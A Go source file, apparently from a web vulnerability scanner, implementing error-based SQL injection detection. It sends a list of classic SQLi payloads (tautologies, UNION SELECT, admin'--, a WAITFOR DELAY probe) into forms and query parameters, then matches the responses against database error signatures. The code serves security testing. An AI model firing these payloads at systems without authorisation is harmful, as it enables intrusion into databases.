// Package sqli provides error-based SQL injection detection. A candidate
// response must both differ from the inert baseline and match one of the
// curated DB-engine error signatures before a finding is emitted.
package sqli

import (
	"context"
	"log/slog"
	"net/url"
	"regexp"
	"strings"

	"github.com/bountyscan/bountyscan/pkg/crawlinput"
	"github.com/bountyscan/bountyscan/pkg/defaults"
	"github.com/bountyscan/bountyscan/pkg/engine"
	"github.com/bountyscan/bountyscan/pkg/finding"
	"github.com/bountyscan/bountyscan/pkg/probe"
)

// Payloads returns the ordered boolean/union/error-inducing payload list.
func Payloads() []string {
	return []string{
		"' OR '1'='1",
		"' OR '1'='1' --",
		"' OR '1'='1' /*",
		"1' AND '1'='1",
		"1' AND '1'='1' --",
		"1' UNION SELECT NULL--",
		"1' UNION SELECT NULL,NULL--",
		"admin'--",
		"1' ORDER BY 1--",
		"'; WAITFOR DELAY '0:0:5'--",
	}
}

// errorSignatures are DB-engine error patterns, matched case-insensitively
// against the candidate response body.
var errorSignatures = []*regexp.Regexp{
	regexp.MustCompile(`(?i)SQL syntax.*MySQL`),
	regexp.MustCompile(`(?i)Warning.*mysql_`),
	regexp.MustCompile(`(?i)MySQLSyntaxErrorException`),
	regexp.MustCompile(`(?i)valid MySQL result`),
	regexp.MustCompile(`(?i)PostgreSQL.*ERROR`),
	regexp.MustCompile(`(?i)Warning.*pg_`),
	regexp.MustCompile(`(?i)valid PostgreSQL result`),
	regexp.MustCompile(`(?i)Npgsql\.`),
	regexp.MustCompile(`(?i)Driver.*SQL[-_ ]*Server`),
	regexp.MustCompile(`(?i)OLE DB.*SQL Server`),
	regexp.MustCompile(`(?i)SQLServer JDBC Driver`),
	regexp.MustCompile(`(?i)Microsoft SQL Native Error`),
	regexp.MustCompile(`(?i)ODBC SQL Server Driver`),
	regexp.MustCompile(`(?i)SQLite/JDBCDriver`),
	regexp.MustCompile(`(?i)System\.Data\.SQLite\.SQLiteException`),
}

// Config configures the SQLi scanner.
type Config struct {
	Engine       *engine.Client
	Logger       *slog.Logger
	MaxPayloads  int
	MaxEndpoints int
}

// Scanner probes forms and query parameters for error-based SQL injection.
type Scanner struct {
	cfg      Config
	payloads []string
}

// NewScanner creates a SQLi scanner, filling config defaults.
func NewScanner(cfg Config) *Scanner {
	if cfg.Engine == nil {
		cfg.Engine = engine.New(engine.Config{})
	}
	if cfg.Logger == nil {
		cfg.Logger = slog.Default()
	}
	if cfg.MaxPayloads <= 0 {
		cfg.MaxPayloads = defaults.MaxSQLiPayloads
	}
	if cfg.MaxEndpoints <= 0 {
		cfg.MaxEndpoints = defaults.MaxQueryEndpoints
	}
	return &Scanner{cfg: cfg, payloads: Payloads()}
}

// Scan probes every form and query-bearing endpoint, short-circuiting each
// injection point on its first confirmed finding.
func (s *Scanner) Scan(ctx context.Context, targetURL string, data crawlinput.Data) []finding.Finding {
	var findings []finding.Finding

	for _, form := range data.Forms {
		if f := s.scanForm(ctx, targetURL, form); f != nil {
			findings = append(findings, *f)
		}
	}

	endpoints := data.Endpoints
	if len(endpoints) > s.cfg.MaxEndpoints {
		endpoints = endpoints[:s.cfg.MaxEndpoints]
	}
	for _, ep := range endpoints {
		if f := s.scanEndpoint(ctx, ep); f != nil {
			findings = append(findings, *f)
		}
	}

	return findings
}

func (s *Scanner) scanForm(ctx context.Context, targetURL string, form crawlinput.Form) *finding.Finding {
	if len(form.Inputs) == 0 {
		return nil
	}
	action := probe.ResolveURL(targetURL, form.Action)

	baseline := s.submit(ctx, action, form, defaults.BaselineValue)

	for i, payload := range s.payloads {
		if i >= s.cfg.MaxPayloads {
			break
		}
		res, err := s.submitErr(ctx, action, form, payload)
		if err != nil {
			s.cfg.Logger.Debug("sqli form probe failed", slog.String("url", action), slog.String("error", err.Error()))
			continue
		}
		if !probe.DiffersDefault(baseline, res) {
			continue
		}
		if f := evaluate(action, payload, res.Body); f != nil {
			return f
		}
	}
	return nil
}

func (s *Scanner) scanEndpoint(ctx context.Context, endpoint string) *finding.Finding {
	u, err := url.Parse(endpoint)
	if err != nil || u.RawQuery == "" {
		return nil
	}
	params := u.Query()

	baseline := s.get(ctx, endpoint, fill(params, defaults.BaselineValue))

	for i, payload := range s.payloads {
		if i >= s.cfg.MaxPayloads {
			break
		}
		res, err := s.cfg.Engine.Get(ctx, endpoint, fill(params, payload))
		if err != nil {
			s.cfg.Logger.Debug("sqli query probe failed", slog.String("url", endpoint), slog.String("error", err.Error()))
			continue
		}
		if !probe.DiffersDefault(baseline, res) {
			continue
		}
		if f := evaluate(endpoint, payload, res.Body); f != nil {
			return f
		}
	}
	return nil
}

// evaluate matches the candidate body against the DB error signatures.
func evaluate(url, payload, body string) *finding.Finding {
	for _, sig := range errorSignatures {
		if sig.MatchString(body) {
			f := finding.MustNew(finding.TypeSQLi, finding.SeverityCritical, url)
			f.Payload = payload
			f.Issue = "error-based"
			f.Indicators = []string{sig.String()}
			return &f
		}
	}
	return nil
}

func (s *Scanner) submit(ctx context.Context, action string, form crawlinput.Form, value string) *probe.Result {
	res, err := s.submitErr(ctx, action, form, value)
	if err != nil {
		return nil
	}
	return &res
}

func (s *Scanner) submitErr(ctx context.Context, action string, form crawlinput.Form, value string) (probe.Result, error) {
	data := url.Values{}
	for _, input := range form.Inputs {
		data.Set(input, value)
	}
	if strings.EqualFold(form.Method, "POST") {
		return s.cfg.Engine.PostForm(ctx, action, data)
	}
	return s.cfg.Engine.Get(ctx, action, data)
}

func (s *Scanner) get(ctx context.Context, endpoint string, params url.Values) *probe.Result {
	res, err := s.cfg.Engine.Get(ctx, endpoint, params)
	if err != nil {
		return nil
	}
	return &res
}

func fill(params url.Values, value string) url.Values {
	out := url.Values{}
	for k := range params {
		out.Set(k, value)
	}
	return out
}
